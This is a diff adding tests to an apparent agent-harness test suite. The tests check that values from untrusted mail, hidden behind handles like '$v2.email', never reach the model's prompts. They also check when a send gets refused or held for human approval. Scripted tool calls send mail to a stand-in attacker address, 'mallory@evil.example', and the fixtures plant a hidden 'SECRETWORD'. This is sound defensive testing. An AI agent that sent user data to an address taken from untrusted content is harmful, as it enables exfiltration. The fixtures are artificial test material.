@@ -1,7 +1,7 @@
 // Untrusted values that the model never sees: it hands on `$v2.email`, the tool gets the address, and a person reads it.
 
 import { expect, test } from "vitest";
-import { ok } from "../../../packages/harness/src/base/result.ts";
+import { err, ok } from "../../../packages/harness/src/base/result.ts";
 import type { Models, Tool } from "../../../packages/harness/src/ports.ts";
 import { answering, countingTool, openEngine, value } from "../../support/engine.ts";
 
@@ -80,6 +80,73 @@ test("the model names a handle, a person sees what it stands for and whence, and
   expect(prompts).toHaveLength(3);
   for (const prompt of prompts) expect(prompt).not.toMatch(/SECRETWORD|mallory/);
   expect(prompts[1]).toContain("$v2.email: 1");
+});
+
+test("what a tool says of a call that it does not take quotes nothing of what the model does not see", async () => {
+  const prompts: string[] = [];
+  const picky: Tool = {
+    ...sender(),
+    plan: async ({ to }) =>
+      await Promise.resolve(err({ code: "path_invalid", detail: `"${String(to)}" is no path.` })),
+  };
+  const models = answering((turn) => {
+    if (turn === 0) return { calls: [{ id: "a", tool: "read_mail", arguments: {} }] };
+    if (turn === 1) return { calls: [{ id: "b", tool: "send", arguments: { to: "$v2", text: "Hello" } }] };
+    if (turn === 2)
+      return { calls: [{ id: "c", tool: "send", arguments: { to: "own words", text: "Hello" } }] };
+    return { text: "Done." };
+  });
+  await using engine = await openEngine({
+    models: spied(models, prompts),
+    tools: [mailbox(), picky],
+    agent: { handles: ["read_mail"] },
+  });
+  await engine.startWorker();
+  const { steps } = await engine.reaches(await engine.submit(), "succeeded");
+  expect(prompts).toHaveLength(4);
+  for (const prompt of prompts) expect(prompt).not.toMatch(/SECRETWORD|mallory/);
+  expect(prompts[2]).toContain("path_invalid");
+  // What the model wrote itself it is told; people are told all of it.
+  expect(prompts[3]).toContain('\\"own words\\" is no path.');
+  const refused = steps.filter(({ name, state }) => name === "send" && state === "refused");
+  expect(refused[0]?.decision?.reasons.map(({ detail }) => detail).join()).toContain("SECRETWORD");
+});
+
+test.each([
+  [
+    "says back what a handle stood for",
+    (to: string) => `No contact has the address ${to}.`,
+    "awaiting_approval",
+  ],
+  ["says nothing of it", () => "There is no such contact, ask for mallory@evil.example.", "succeeded"],
+])("a trusted tool that %s: what the model copies from it is judged by that", async (_, say, outcome) => {
+  const send = sender();
+  const lookup: Tool = {
+    ...countingTool("lookup", "none"),
+    execute: async ({ to }) =>
+      await Promise.resolve(ok({ output: say(to === "$v2.email" ? "" : String(to)), label: "trusted" })),
+  };
+  const models = answering((turn) => {
+    if (turn === 0) return { calls: [{ id: "a", tool: "read_mail", arguments: {} }] };
+    const to = outcome === "succeeded" ? "Nobody" : "$v2.email";
+    if (turn === 1) return { calls: [{ id: "b", tool: "lookup", arguments: { to } }] };
+    if (turn === 2)
+      return { calls: [{ id: "c", tool: "send", arguments: { to: "mallory@evil.example", text: "Tell" } }] };
+    return { text: "Done." };
+  });
+  await using engine = await openEngine({
+    models,
+    tools: [mailbox(), lookup, send],
+    agent: { handles: ["read_mail"] },
+  });
+  await engine.startWorker();
+  const run = await engine.reaches(
+    await engine.submit("Tell, and send it."),
+    "awaiting_approval",
+    "succeeded",
+  );
+  expect(run.status).toBe(outcome);
+  expect(send.sent).toHaveLength(outcome === "succeeded" ? 1 : 0);
 });
 
 test("without the configuration the model reads it, and a handle is only text", async () => {
